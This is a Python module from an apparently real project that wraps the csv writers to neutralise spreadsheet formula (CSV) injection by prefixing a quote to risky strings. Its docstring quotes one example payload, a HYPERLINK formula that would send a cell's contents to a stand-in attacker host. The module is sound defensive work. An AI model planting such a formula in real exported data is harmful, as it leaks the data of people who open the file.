"""CSV writers that are safe to open in a spreadsheet: every CSV reclaim writes uses them.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also after a leading tab or carriage return. A signer who calls themselves
``=HYPERLINK("https://evil.example/?"&A2, "Click")`` would otherwise run that formula on
the organiser's machine when the decrypted export is opened ("CSV injection", also called
formula injection). As OWASP recommends, such a value is written with a single quote in
front (``'=HYPERLINK(...)``), which spreadsheets show as text and which a person reading
the file can still recognise.

Only strings are neutralised: a number the code itself writes (a count, say) stays a
number, so that ``-3`` in a numeric column is still ``-3``. A string is what a person could
have typed, so a string ``"-3"`` is written ``'-3``: no user-supplied value is trusted to
be "just a number".

Use ``writer()`` and ``DictWriter`` from here instead of the ``csv`` module's;
``reclaim/core/tests/test_safe_csv.py`` fails the build if any other module writes
CSV with the ``csv`` module directly. Django-free on purpose: export workers
(reclaim.letters.exportrows) import it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# The characters a spreadsheet may take as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The value as it is safe to write in a cell: strings that start like a formula get a
    leading single quote; anything else (numbers, booleans, None) is left as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` with every cell passed through ``neutralise``."""

    def __init__(self, out: Any, dialect: str = "excel", **options: Any) -> None:
        self._writer = csv.writer(out, dialect, **options)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, dialect: str = "excel", **options: Any) -> SafeWriter:
    """Like ``csv.writer``, safe to open in a spreadsheet."""
    return SafeWriter(out, dialect, **options)


class DictWriter(csv.DictWriter):
    """Like ``csv.DictWriter``, safe to open in a spreadsheet. The rows go through a
    SafeWriter, so writeheader, writerow and writerows are all covered."""

    def __init__(
        self,
        out: Any,
        fieldnames: Iterable[str],
        restval: Any = "",
        extrasaction: str = "raise",
        dialect: str = "excel",
        **options: Any,
    ) -> None:
        super().__init__(
            out,
            list(fieldnames),
            restval=restval,
            extrasaction=extrasaction,  # type: ignore[arg-type]
            dialect=dialect,
            **options,
        )
        self.writer = SafeWriter(out, dialect, **options)  # type: ignore[assignment]
